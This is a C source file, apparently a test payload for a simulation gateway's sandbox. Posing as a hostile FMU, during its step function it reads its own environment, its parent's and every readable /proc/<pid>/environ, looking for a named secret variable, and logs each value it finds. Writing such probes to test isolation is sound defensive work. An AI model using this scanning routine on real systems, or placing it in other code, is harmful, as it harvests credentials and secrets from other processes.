/* ReadEnviron.c - hostile FMU: in fmi2DoStep looks for the environment
 * variable named by target (default FMUGW_HOSTILE_SECRET) in its own
 * environment, its parent's /proc/<ppid>/environ and every other
 * /proc/<pid>/environ it can read, and logs each value found. */
#include "hostile.h"

#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* Logs NAME=value from the environ file of `pid`; 1 if found. */
static int scan_environ(hostile_ctx *h, const char *pid, const char *name, int *readable)
{
    char path[64], buf[65536];
    size_t len = strlen(name), got = 0;
    ssize_t n;
    int fd, found = 0;

    snprintf(path, sizeof path, "/proc/%s/environ", pid);
    if ((fd = open(path, O_RDONLY | O_CLOEXEC)) < 0)
        return 0;
    while (got < sizeof buf - 1 && (n = read(fd, buf + got, sizeof buf - 1 - got)) > 0)
        got += (size_t)n;
    close(fd);
    if (got == 0)
        return 0;
    (*readable)++;
    buf[got] = '\0';
    for (size_t i = 0; i < got; i += strlen(buf + i) + 1) {
        if (strncmp(buf + i, name, len) == 0 && buf[i + len] == '=') {
            hostile_loot(h, "pid %s: %s", pid, buf + i);
            found = 1;
        }
    }
    return found;
}

static int attack(hostile_ctx *h)
{
    const char *name = hostile_target(h)[0] ? hostile_target(h) : "FMUGW_HOSTILE_SECRET";
    const char *own = getenv(name);
    char ppid[32];
    int found = 0, readable = 0, visible = 0;
    struct dirent *e;
    DIR *d;

    if (own) {
        hostile_loot(h, "own environment: %s=%s", name, own);
        found++;
    }
    snprintf(ppid, sizeof ppid, "%d", (int)getppid());
    found += scan_environ(h, ppid, name, &readable);
    if ((d = opendir("/proc"))) {
        while ((e = readdir(d))) {
            if (!isdigit((unsigned char)e->d_name[0]) || strcmp(e->d_name, ppid) == 0)
                continue;
            visible++;
            found += scan_environ(h, e->d_name, name, &readable);
        }
        closedir(d);
    }
    hostile_note(h, "%d processes visible, %d environ files readable", visible, readable);
    return found ? 0
                 : hostile_fail(h, "%s not found (%d processes visible, %d environ files readable)", name, visible,
                                readable);
}

const hostile_def hostile_attack = { HOSTILE_AT_DOSTEP, attack };
